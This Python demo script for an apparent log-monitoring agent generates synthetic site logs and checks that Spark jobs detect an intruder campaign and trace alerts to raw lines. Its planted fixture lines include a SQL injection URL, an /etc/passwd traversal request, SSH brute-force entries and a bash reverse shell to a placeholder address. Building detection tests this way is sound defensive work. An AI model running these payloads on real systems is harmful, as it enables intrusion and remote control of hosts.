"""Five sites, one intruder, and what the region makes of it: real agents, then the Spark jobs an analyst needs.

Five agents, one after the other, each with its own site, store and raw log in ``build/sites``, evaluate an hour of
ordinary syslog and web traffic, in which one address tries a web server, guesses passwords and gets in; one site sees
nothing of it. Their alerts land in one folder. Then: ingest with a lookup of the sites, campaigns, report, export; and
the last step of an analyst's walk, from the most severe alert to its line in the raw log of its host, by ``raw_ref``.

Ends with exit code 1 when the intruder is no campaign, or the raw line is not that of the alert.
"""

from __future__ import annotations

import json
import os
import shutil
import sys
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from demo.stage import ROOT, VEDETTE, command, running, say, status, until

WORK = ROOT / "build" / "sites"
INTRUDER = "198.51.100.23"
LINES, REQUESTS = 3000, 1000

SITES = (
    ("vienna", "Vienna", "AT", 48.2, 16.4, "Europe/Vienna", 0),
    ("lisbon", "Lisbon", "PT", 38.7, -9.1, "Europe/Lisbon", 6),
    ("athens", "Athens", "GR", 38.0, 23.7, "Europe/Athens", 11),
    ("dublin", "Dublin", "IE", 53.3, -6.3, "Europe/Dublin", 19),
    ("oslo", "Oslo", "NO", 59.9, 10.8, "Europe/Oslo", None),
)
"""Site, name, country, latitude, longitude, time zone; minutes until the intruder comes, None for never."""

CONFIG = """\
[agent]
id = "edge-{site}-1"
site = "{site}"
fleet = "demo"
data_dir = "{folder}/data"

[[input]]
name = "auth"
type = "file"
paths = ["{folder}/auth.log"]
timezone = "UTC"
from_start = true
logsource = {{ product = "linux" }}

[[input]]
name = "web"
type = "file"
paths = ["{folder}/access.log"]
format = "access"
from_start = true

[rules]
paths = ["{rules}"]

[uplink]
type = "directory"
path = "{landing}"
heartbeat = "1s"

[log]
level = "warning"
"""


def intrusion(site: str, start: datetime) -> tuple[list[str], list[str]]:
    """Syslog lines and web requests of the intruder at ``site``, beginning at ``start``."""

    def at(seconds: int) -> str:
        return f"{start + timedelta(seconds=seconds):%b %d %H:%M:%S}"

    def asked(seconds: int, path: str, code: int, agent: str) -> str:
        when = f"{start + timedelta(seconds=seconds):%d/%b/%Y:%H:%M:%S} +0000"
        return f'{INTRUDER} - - [{when}] "GET {path} HTTP/1.1" {code} 512 "-" "{agent}"'

    host = f"web1.{site}"
    web = [
        asked(0, "/shop?id=1%27%20UNION%20SELECT%20password%20FROM%20users--", 200, "sqlmap/1.7"),
        asked(20, "/../../../../etc/passwd", 404, "curl/8.0"),
    ]
    auth = [f"<38>{at(60)} {host} sshd[711]: Invalid user admin from {INTRUDER} port 40100"]
    auth += [
        f"<38>{at(62 + 2 * n)} {host} sshd[{712 + n}]: Failed password for root from {INTRUDER} port {40101 + n} ssh2"
        for n in range(5)
    ]
    auth += [f"<38>{at(80)} {host} sshd[720]: Accepted password for root from {INTRUDER} port 40110 ssh2"]
    if site == "dublin":
        shell = f"/bin/bash -c bash -i >& /dev/tcp/{INTRUDER}/4444 0>&1"
        auth += [f"<85>{at(110)} {host} sudo[900]:     root : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND={shell}"]
    return auth, web


def traffic(number: int, site: str, minutes: int | None, now: datetime) -> None:
    """An hour of the site's logs, the intruder's lines at their time."""
    folder, start = WORK / site, now - timedelta(hours=1)
    auth, web = ([], []) if minutes is None else intrusion(site, start + timedelta(minutes=minutes))
    for kind, name, count, planted in (("syslog", "auth.log", LINES, auth), ("access", "access.log", REQUESTS, web)):
        output = command(
            sys.executable, "-m", "bench.traffic", "--count", count, "--seed", 40 + number, "--kind", kind,
            "--start", f"{start:%Y-%m-%dT%H:%M:%S+00:00}", "--per-second", 1,
        )  # fmt: skip
        lines = output.splitlines()
        place = 0 if minutes is None else min(len(lines), minutes * 60)
        (folder / name).write_text("\n".join([*lines[:place], *planted, *lines[place:]]) + "\n")


def agent(site: str) -> dict[str, Any]:
    """Run the site's agent until its logs are evaluated and its alerts are in the landing; its last status."""
    config = WORK / site / "vedette.toml"
    folder, landing = WORK / site, WORK / "landing"
    config.write_text(CONFIG.format(site=site, folder=folder, landing=landing, rules=ROOT / "rules" / "sigma"))
    wanted = sum(len((WORK / site / name).read_bytes().splitlines()) for name in ("auth.log", "access.log"))

    def settled() -> dict[str, Any] | None:
        now = status(config)
        done = sum(source["judged"] for source in now.get("inputs", {}).values())
        return now if now and done >= wanted and not now["alerts"]["in_outbox"] else None

    with running(folder / "agent.log", VEDETTE, "run", "-c", config):
        report: dict[str, Any] = until(f"all lines of {site} to be evaluated", settled, folder)
        time.sleep(1.5)  # one more heartbeat
        return report


def located(lookups: Path, fleet: str) -> Path:
    """The folder ``lookups`` with the lookup ``sites``: where those of ``fleet`` are."""
    lookups.mkdir()
    rows = "".join(
        f"{site},{fleet},{name},{land},{latitude},{longitude},{zone}\n"
        for site, name, land, latitude, longitude, zone, _ in SITES
    )
    (lookups / "sites.csv").write_text(f"site,fleet,name,country,latitude,longitude,timezone\n{rows}")
    return lookups


def raw_line(alert: dict[str, Any]) -> str:
    """The line of an exported finding in the raw log of its host, by the command that an analyst gives there."""
    ref, config = alert["unmapped"]["raw_ref"], WORK / alert["unmapped"]["site"] / "vedette.toml"
    place = f"{ref['log_id']}:{ref['offset']}+{ref['length']}"
    print(f"$ vedette logs show -c {config.relative_to(ROOT)} {place}")
    return command(VEDETTE, "logs", "show", "-c", config, place).removesuffix("\n")


def main() -> None:
    shutil.rmtree(WORK, ignore_errors=True)
    now = datetime.now(UTC).replace(microsecond=0)
    say(f"Five agents evaluate {LINES:,} log lines and {REQUESTS:,} requests each; {INTRUDER} visits four of the sites")
    for number, (site, *_, minutes) in enumerate(SITES):
        (WORK / site).mkdir(parents=True)
        traffic(number, site, minutes, now)
        last = agent(site)
        done = sum(source["judged"] for source in last["inputs"].values())
        print(f"{site:8} {done:,} events evaluated, {last['alerts']['receipted']:,} alerts landed")

    lookups = located(WORK / "lookups", "demo")
    job = (sys.executable, "-m", "spark_jobs")
    quiet = {**os.environ, "SPARK_LOCAL_IP": "127.0.0.1"}
    tables, page, master = WORK / "tables", WORK / "report.html", ("--master", "local[2]")
    say("Spark: ingest, then campaigns")
    print(command(*job, "ingest", "--landing", WORK / "landing", "--tables", tables, "--lookups", lookups, *master,
                  env=quiet), end="")  # fmt: skip
    print(command(*job, "campaigns", "--tables", tables, *master, env=quiet), end="")

    say("The report of two days, and its first screen")
    said = command(*job, "report", "--tables", tables, "--days", 2, "--html", page)
    print(said.partition("\nLevels")[0])
    if INTRUDER not in said.partition("Look at first")[2].partition("\n\n")[0]:
        sys.exit(f"{INTRUDER} is no campaign")

    say("From the most severe alert about it to its line in the raw log of its host")
    command(*job, "export", "--tables", tables, "--format", "ocsf", "--days", 2, "--output", WORK / "export")
    alerts = [
        json.loads(line) for file in sorted((WORK / "export").iterdir()) for line in file.read_text().splitlines()
    ]
    mine = [alert for alert in alerts if INTRUDER in alert.get("raw_data", "") and alert["activity_id"] == 1]
    worst = max(mine, key=lambda alert: (alert["severity_id"], alert["time"]))
    print(f"{worst['severity']}: {worst['message']} on {worst['device']['hostname']}")
    line = raw_line(worst)
    print(line)
    if line != worst["raw_data"]:
        sys.exit("that is not the line of the alert")
    say(f"Done. The page: {page.relative_to(ROOT)}")


if __name__ == "__main__":
    main()
